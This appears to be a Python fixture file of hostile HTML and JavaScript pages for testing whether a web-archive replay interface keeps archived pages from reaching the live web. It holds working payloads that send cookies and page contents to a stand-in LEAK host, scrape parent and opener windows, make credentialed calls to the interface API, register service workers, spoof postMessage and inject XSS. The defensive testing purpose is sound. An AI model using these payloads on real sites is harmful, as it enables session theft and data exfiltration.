# ruff: noqa: E501 - pages, not prose
"""Pages that try to leave the archive. LEAK stands for a server of the live web, UI for the interface."""

HOST = "http://attack.test"
_LEAK_MARKUP = """<img src="LEAK/img"><script>fetch("LEAK/fetch").catch(()=>{});new Image().src="LEAK/image"</script>"""

ATTACKS = {
    "top-navigation": "<script>try{top.location='LEAK/top'}catch(e){}</script>",
    "self-navigation": "<script>location.href='LEAK/self'</script>",
    "self-navigation-assign": "<script>setTimeout(()=>window.location.assign('LEAK/self'),50)</script>",
    "self-navigation-document": "<script>document.location='LEAK/self'</script>",
    "cookies": "<script>loot=[];try{loot.push(document.cookie)}catch(e){};new Image().src='LEAK/c?'+loot</script>",
    "cookie-toss": "<script>try{document.cookie='strandline=mine;path=/'}catch(e){}</script>",
    "parent": "<script>loot=[];try{loot.push(parent.document.body.innerHTML)}catch(e){}</script>",
    "opener": "<script>loot=[];try{loot.push(opener.document.body.innerHTML)}catch(e){}</script>",
    "websocket": "<script>try{new WebSocket('WSLEAK/ws')}catch(e){}</script>",
    "websocket-fresh": """<iframe></iframe><script>try{new (document.querySelector('iframe').contentWindow.WebSocket)(
        'WSLEAK/ws')}catch(e){}</script>""",
    "beacon": "<script>navigator.sendBeacon('LEAK/beacon','x')</script>",
    "beacon-fresh": """<iframe></iframe><script>try{document.querySelector('iframe').contentWindow.navigator
        .sendBeacon('LEAK/beacon','x')}catch(e){}</script>""",
    "fetch-fresh": """<iframe></iframe><script>try{document.querySelector('iframe').contentWindow
        .fetch('LEAK/fetch',{mode:'no-cors'})}catch(e){}</script>""",
    "service-worker": """<script>try{navigator.serviceWorker.register('/_/replay.js',{scope:'/'}).catch(()=>{});
        navigator.serviceWorker.register('UI/static/frame.js').catch(()=>{})}catch(e){}</script>""",
    "form-post": """<form action="LEAK/form" method="post"><input name="a" value="b"></form>
        <script>document.forms[0].submit()</script>""",
    "form-fresh": """<script>const f=document.createElement('form');const a=document.createAttribute('action');
        a.nodeValue='LEAK/form';f.setAttributeNode(a);document.documentElement.append(f);f.submit()</script>""",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=LEAK/refresh">',
    "meta-refresh-written": """<script>document.write('<meta http-equiv="refresh" content="0;url=LEAK/refresh">')</script>""",
    "meta-refresh-made": """<script>const m=document.createElement('meta');m.httpEquiv='refresh';
        m.content='0;url=LEAK/refresh';document.head.append(m)</script>""",
    "base": '<base href="LEAK/base/"><img src="img"><script src="script.js"></script><link rel=stylesheet href="s.css">',
    "import": "<script>new Function('u','return import(u)')('LEAK/mod.js').catch(()=>{})</script>",
    "import-module": "<script type=module>import 'LEAK/mod.js'</script>",
    "css": """<style>@import "LEAK/a.css"; @import url(LEAK/b.css); @font-face{font-family:f;src:url(LEAK/f)}
        body{font-family:f;background:\\75rl(LEAK/esc);list-style:url('LEAK/l')}</style><p style="background:url(LEAK/p)">x""",
    "css-made": """<p id=p>x<script>p.style.cssText='background:url(LEAK/q)';const s=document.createElement('style');
        s.textContent='body{background:url(LEAK/r)}@import "LEAK/s";';document.head.append(s)</script>""",
    "link-hints": """<link rel="dns-prefetch" href="LEAK"><link rel="preconnect" href="LEAK">
        <link rel="prefetch" href="LEAK/prefetch"><link rel="preload" as="image" href="LEAK/preload">
        <link rel="prerender" href="LEAK/prerender"><link rel="icon" href="LEAK/icon"><link rel="manifest" href="LEAK/m">""",
    "link-hints-made": """<script>for(const rel of ['preconnect','prefetch','preload','modulepreload','stylesheet']){
        const l=document.createElement('link');l.rel=rel;l.as='script';l.setAttribute('href','LEAK/'+rel);
        document.head.append(l)}</script>""",
    "eval-fetch": """<script>eval("fe"+"tch('LEAK/eval',{mode:'no-cors'}).catch(()=>{})");
        setTimeout("new Image().src='LEAK/timer'",1)</script>""",
    "srcdoc": f"""<iframe srcdoc="{_LEAK_MARKUP.replace('"', "&quot;")}"></iframe>""",
    "srcdoc-made": f"<script>const f=document.createElement('iframe');f.srcdoc={_LEAK_MARKUP!r};"
    "document.documentElement.append(f)</script>".replace("</script>'", "<\\/script>'"),
    "frame": '<iframe src="LEAK/frame"></iframe><script>const f=document.createElement("iframe");'
    'f.setAttributeNode(Object.assign(document.createAttribute("src"),{nodeValue:"LEAK/f2"}));'
    "document.documentElement.append(f)</script>",
    "javascript-frame": """<iframe src="javascript:void(location='LEAK/j')"></iframe>
        <a href="javascript:location='LEAK/ja'" id=a>x</a><script>a.click()</script>""",
    "post-message": """<script>parent.postMessage({strandline:'at',url:'javascript:alert(1)',time:'20260301120000'},'*');
        parent.postMessage({strandline:'at',url:'LEAK/spoof"><img src=x>',time:'x'},'*')</script>""",
    "storage": """<script>try{localStorage.setItem('strandline','mine');sessionStorage.x=1;
        indexedDB.open('x')}catch(e){}</script>""",
    "interface-api": """<script>loot=[];for(const p of ['/api/v1/sites','/','/metrics','/cdx?url=attack.test'])
        fetch('UI'+p,{credentials:'include'}).then(r=>r.text()).then(t=>loot.push(t)).catch(()=>{});
        const x=new XMLHttpRequest();try{x.open('GET','UI/api/v1/sites');x.onload=()=>loot.push(x.responseText);x.send()}
        catch(e){}</script><iframe src="UI/"></iframe>""",
    "window-open": """<script>try{const w=window.open('LEAK/open');w&&(w.location='LEAK/open2');open('LEAK/o3','_top')}
        catch(e){}</script><a id=a href="LEAK/a" target=_blank>x</a><script>a.click()</script>""",
    "object-embed": """<object data="LEAK/o"></object><embed src="LEAK/e"><applet code="LEAK/a"></applet>
        <object data="x" type="text/html"></object>""",
    "media": """<video src="LEAK/v" poster="LEAK/p" autoplay muted></video><audio src="LEAK/a" autoplay></audio>
        <picture><source srcset="LEAK/s1 1x, LEAK/s2 2x"><img srcset="LEAK/i1 1x, LEAK/i2 2x"></picture>
        <input type=image src="LEAK/in"><table background="LEAK/t"><tr><td>x</table>""",
    "svg": """<svg><image href="LEAK/i" width=5 height=5 /><image xlink:href="LEAK/x" width=5 height=5 />
        <script href="LEAK/s.js"></script><use href="LEAK/u#a"/></svg>""",
    "webrtc": """<script>try{const p=new RTCPeerConnection({iceServers:[{urls:'stun:STUN'}]});p.createDataChannel('a');
        p.createOffer().then(o=>p.setLocalDescription(o))}catch(e){}</script>""",
    "webrtc-fresh": """<iframe></iframe><script>try{const R=document.querySelector('iframe').contentWindow.RTCPeerConnection;
        const p=new R({iceServers:[{urls:'stun:STUN'}]});p.createDataChannel('a');
        p.createOffer().then(o=>p.setLocalDescription(o))}catch(e){}</script>""",
    "webrtc-inner": """<script>const html="<scr"+"ipt>const p=new RTCPeerConnection({iceServers:[{urls:'stun:STUN'}]});"+
        "p.createDataChannel('a');p.createOffer().then(o=>p.setLocalDescription(o))</scr"+"ipt>";
        const frame=()=>document.body.appendChild(document.createElement('iframe'));
        const tag="<iframe srcdoc='"+html.replaceAll("'","&#39;")+"'></iframe>";
        frame().srcdoc=html; frame().setAttribute('srcdoc',html); frame().src='data:text/html,'+html;
        frame().src=URL.createObjectURL(new Blob([html],{type:'text/html'}));
        const a=document.createAttribute('srcdoc');a.nodeValue=html;frame().setAttributeNode(a);
        document.body.insertAdjacentHTML('beforeend',tag);
        document.body.append(document.adoptNode(new DOMParser().parseFromString(tag,'text/html').querySelector('iframe')));
        const d=document.createElement('div');d.setHTMLUnsafe(tag);document.body.append(d);
        const t=document.createElement('template');t.innerHTML=tag;document.body.append(t.content.cloneNode(true));
        document.body.append(Document.parseHTMLUnsafe(tag).body.firstChild);document.write(tag)</script>""",
    "webrtc-fetched": """<script>const x=new XMLHttpRequest();x.open('GET','HOST/fragment');x.responseType='document';
        x.onload=()=>document.body.append(document.adoptNode(x.response.querySelector('iframe')));x.send();
        fetch('HOST/fragment').then(r=>r.text()).then(t=>{const d=document.createElement('p');d.innerHTML=t;document.body.append(d)})
        </script>""",
    "worker": """<script>try{new Worker(URL.createObjectURL(new Blob(["fetch('LEAK/w',{mode:'no-cors'}).catch(()=>{});"+
        "try{importScripts('LEAK/wi')}catch(e){};try{new WebSocket('WSLEAK/ww')}catch(e){}"])));
        new Worker('LEAK/w.js')}catch(e){}</script>""",
    "speculation": """<script type="speculationrules">{"prefetch":[{"urls":["LEAK/sp"]}]}</script>
        <script>const s=document.createElement('script');s.type='speculationrules';
        s.textContent='{"prefetch":[{"urls":["LEAK/sp2"],"eagerness":"immediate"}]}';document.head.append(s)</script>""",
    "ping": """<a id=a ping="LEAK/ping" href="#x">x</a><script>a.click()</script>""",
    "requests": """<script>new EventSource('LEAK/es');const x=new XMLHttpRequest();x.open('POST','LEAK/x');
        x.send('y');fetch(new Request('LEAK/rq')).catch(()=>{});fetch('//'+'LEAKHOST/pr').catch(()=>{})</script>""",
    "bodies": """<form id=f action="/x" method=post><input name=a value=b></form><script>
        const b=JSON.stringify({query:'{x}'}),h={'Content-Type':'application/json'};
        for(const m of ['POST','PUT','PATCH','DELETE'])fetch('LEAK/'+m,{method:m,headers:h,body:b}).catch(()=>{});
        fetch(new Request('LEAK/rp',{method:'POST',body:b,mode:'same-origin'})).catch(()=>{});
        fetch(new Request('LEAK/nc',{method:'POST',body:b,mode:'no-cors',keepalive:true})).catch(()=>{});
        navigator.sendBeacon('LEAK/sb',new Blob([b],h));const d=new FormData();d.append('a','b');
        const x=new XMLHttpRequest();x.open('PUT','LEAK/xp');x.send(d);f.action='LEAK/fa';f.requestSubmit()</script>""",
    "routes": """<base href="/"><script>history.pushState({},'','/deep/route');
        try{history.pushState({},'','LEAK/pushed')}catch(e){};fetch('../x').catch(()=>{});
        fetch('/\\LEAKHOST/y',{mode:'no-cors'}).catch(()=>{});const {location:at}=window;at.href='LEAK/route';
        setTimeout(()=>{history.back();at.assign('LEAK/assigned')},50)</script>""",
    "lazy": """<img loading=lazy src="LEAK/lazy"><iframe loading=lazy src="LEAK/lf"></iframe><div id=d>x</div><script>
        new IntersectionObserver(()=>{const i=new Image();i.loading='lazy';i.srcset='LEAK/o 1x';d.append(i)}).observe(d)</script>""",
    "module-worker": """<script>const t="fetch('LEAK/mw',{method:'POST',body:'x',mode:'no-cors'}).catch(()=>{});"+
        "new Request('LEAK/r');try{new EventSource('LEAK/we')}catch(e){};import('LEAK/wm.js').catch(()=>{});"+
        "try{new Worker('LEAK/nested.js')}catch(e){}";
        const u=URL.createObjectURL(new Blob([t],{type:'text/javascript'}));
        new Worker(u,{type:'module'});try{new SharedWorker(u)}catch(e){}</script>""",
    "shadow": """<div id=h></div><script>const r=h.attachShadow({mode:'closed'});r.innerHTML='<img src="LEAK/si">'+
        '<style>:host{background:url(LEAK/sb)}</style><form action="LEAK/sf" method=post></form>';
        const s=new CSSStyleSheet();s.replaceSync('p{background:url(LEAK/ss)}');r.adoptedStyleSheets=[s];
        r.append(document.createElement('p'));r.querySelector('form').submit()</script>""",
    "inner-html": """<div id=d></div><script>d.innerHTML='<img src="LEAK/ih"><iframe src=LEAK/if></iframe>';
        d.insertAdjacentHTML('beforeend',"<img src='LEAK/ia' srcset='LEAK/ib 2x'>");
        document.write('<img src=LEAK/dw>')</script>""",
    "report-only-headers": "<p>headers</p>",
    "title-xss": "<title></title><script>document.title='<img src=x onerror=alert(1)>'</script>",
}
HEADERS = {
    "report-only-headers": [
        ("Content-Security-Policy", "default-src 'none'; report-uri LEAK/csp"),
        ("Report-To", '{"group":"a","max_age":9,"endpoints":[{"url":"LEAK/r"}]}'),
        ("Reporting-Endpoints", 'a="LEAK/re"'),
        ("NEL", '{"report_to":"a","max_age":9}'),
        ("Link", "<LEAK/lp>; rel=preload; as=image, <LEAK>; rel=preconnect"),
        ("Refresh", "0;url=LEAK/rh"),
        ("Set-Cookie", "strandline=mine; Path=/"),
        ("Clear-Site-Data", '"*"'),
        ("Service-Worker-Allowed", "/"),
        ("Strict-Transport-Security", "max-age=999"),
        ("SourceMap", "LEAK/map"),
    ]
}
ONLY_FRAMED = {
    "top-navigation-hidden": "<script>try{window['to'+'p']['loc'+'ation']='LEAK/top'}catch(e){}</script>",
    "self-navigation-hidden": "<script>self['loc'+'ation'].href='LEAK/hidden'</script>",
    "location-fresh": "<iframe></iframe><script>const w=document.querySelector('iframe').contentWindow;"
    "try{w.eval(\"par\"+\"ent['loca'+'tion']='LEAK/pl'\")}catch(e){}</script>",
    "link-hidden": "<script>const a=document.createElement('a');const n=document.createAttribute('href');"
    "n.nodeValue='LEAK/al';a.setAttributeNode(n);document.documentElement.append(a);a.click()</script>",
}
"""Script that goes elsewhere by means no rewriting sees: the frame of the interface holds it."""
INNER = {
    "data-frame": """<iframe src="data:text/html,<img src='LEAK/d'><script>location='LEAK/dl'</script>"></iframe>""",
    "blob-frame": """<script>const f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob([
        "<img src='LEAK/b'><scr"+"ipt>location='LEAK/bl'</scr"+"ipt>"],{type:'text/html'}));
        document.documentElement.append(f)</script>""",
}
"""Documents inside the page that no rewriting sees. No request of theirs leaves; Chromium opens a connection ahead of
a navigation before it asks the policy, so a bare connection may."""
